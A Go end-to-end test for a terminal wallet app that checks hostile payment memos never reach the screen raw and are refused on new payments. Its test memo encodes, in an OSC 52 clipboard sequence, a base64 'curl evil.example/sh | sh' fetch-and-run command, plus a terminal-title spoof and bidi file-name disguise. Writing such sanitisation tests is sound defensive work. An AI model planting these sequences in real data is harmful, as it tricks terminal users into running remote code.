package app

import (
	"context"
	"errors"
	"regexp"
	"strings"
	"testing"

	tea "charm.land/bubbletea/v2"

	"github.com/syftbox/syftwallet/api"
	"github.com/syftbox/syftwallet/client"
	"github.com/syftbox/syftwallet/ledger"
	"github.com/syftbox/syftwallet/money"
	"github.com/syftbox/syftwallet/service"
)

// hostileMemo holds every control class a memo must not bring to the terminal: OSC 52
// (clipboard), an OSC title, CSI, C1 CSI, CR, NUL, BEL and the bidi override and isolate.
const hostileMemo = "pay\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUvc2ggfCBzaA==\x07 \x1b]0;syftwallet: verified\x07" +
	"\x1b[2J\x1b[H \u009b31m red\rNUL\x00 \u202egnp.exe \u2066iso\u2069 end"

// sgr is the only escape sequence a frame may hold: colours and styles.
var sgr = regexp.MustCompile(`\x1b\[[0-9;:]*m`)

// checkRaw fails when the frame holds the memo's sequences or any control, C1 or bidi rune
// outside the wallet's own styling.
func checkRaw(t *testing.T, step, frame string) {
	t.Helper()
	for _, p := range []string{"\x1b]", "\x1b[2J", "\x1b[H", "\x07", "\u009b", "\r", "\x00", "\u202e", "\u2066", "\u2069"} {
		if strings.Contains(frame, p) {
			t.Errorf("%s: the frame holds %q", step, p)
		}
	}
	for _, r := range sgr.ReplaceAllString(frame, "") {
		if r != '\n' && (r < 0x20 || r == 0x7f || r >= 0x80 && r <= 0x9f || r >= 0x202a && r <= 0x202e || r >= 0x2066 && r <= 0x2069) {
			t.Errorf("%s: the frame holds %q", step, string(r))
			return
		}
	}
}

// storeHostile writes, below the HTTP layer (as old data would be), a payment from alice to bob
// whose memo and metadata are hostileMemo, and a pending hold whose app name and endpoint are.
func storeHostile(t *testing.T, svc *service.Service, memo string) {
	t.Helper()
	ctx := context.Background()
	alice, err := svc.Ledger.AccountByEmail(ctx, "alice@example.com")
	if err != nil {
		t.Fatal(err)
	}
	if _, err := svc.Ledger.Pay(ctx, ledger.Payment{SenderID: alice.ID, RecipientEmail: "bob@example.com",
		Amount: 4_200_000, Memo: &memo, Metadata: map[string]string{"note": memo}}); err != nil {
		t.Fatal(err)
	}
	if _, err := svc.Ledger.Hold(ctx, ledger.Hold{SenderEmail: "alice@example.com", RecipientEmail: "bob@example.com",
		Amount: money.Scale, CreatedBy: api.PartySender, AppName: &memo, AppEpPath: &memo}); err != nil {
		t.Fatal(err)
	}
}

// TestEndToEndHostileMemoNeverReachesTheTerminal: old data with every control class in its memo
// and app name, from the real service over loopback, on the dashboard, in History and its
// details, and live; the frames hold none of it. And the service refuses such a memo now.
func TestEndToEndHostileMemoNeverReachesTheTerminal(t *testing.T) {
	svc := startService(t)
	alice, bob := newClient(t, svc), newClient(t, svc)
	register(t, alice, "alice@example.com", "alice-password")
	register(t, bob, "bob@example.com", "bob-password")
	storeHostile(t, svc, hostileMemo)

	w := openWalletAt(t, bob, 120, 36)
	w.signIn(t, "bob@example.com", "bob-password")
	w.waitFor(t, "the payments on the dashboard", "+4.20", "+1.00")
	checkRaw(t, "dashboard", w.rawFrame())

	// Live: another such payment arrives while the wallet is open.
	if bob.EventsAvailable() {
		w.waitFor(t, "live feed", "● live")
	}
	storeHostile(t, svc, "live "+hostileMemo)
	w.waitFor(t, "the live payment's toast", "+4.20 from alice@example.com")
	checkRaw(t, "live", w.rawFrame())

	w.typeText("3")
	w.waitFor(t, "history", "History", "row 1 of 5")
	checkRaw(t, "history", w.rawFrame())
	if !strings.Contains(w.screen(), `pay\x1b]52;c;`) {
		t.Errorf("History does not show the memo, escaped:\n%s", w.screen())
	}
	apps, memos := 0, 0
	for range 5 { // every row's details: the payments, the holds and the welcome credit
		w.key(tea.KeyEnter, 0)
		w.waitFor(t, "details", "esc closes")
		checkRaw(t, "details", w.rawFrame())
		s := w.screen()
		if regexp.MustCompile(`App +(live )?pay\\x1b\]52;c;`).MatchString(s) {
			apps++
		}
		if regexp.MustCompile(`Memo +(live )?pay\\x1b\]52;c;`).MatchString(s) {
			memos++
		}
		w.key(tea.KeyEscape, 0)
		w.typeText("j")
	}
	if apps != 2 || memos != 2 {
		t.Errorf("details showed %d app names and %d memos, escaped; want 2 and 2", apps, memos)
	}

	// The service refuses such a memo on a new payment, naming the field.
	_, err := alice.Pay(context.Background(), client.PayRequest{Recipient: "bob@example.com", Amount: money.Scale,
		Memo: hostileMemo, IdempotencyKey: "k-hostile"})
	var val *client.ValidationError
	if !errors.As(err, &val) || val.Field != "memo" {
		t.Fatalf("paying with the hostile memo: %v", err)
	}
}
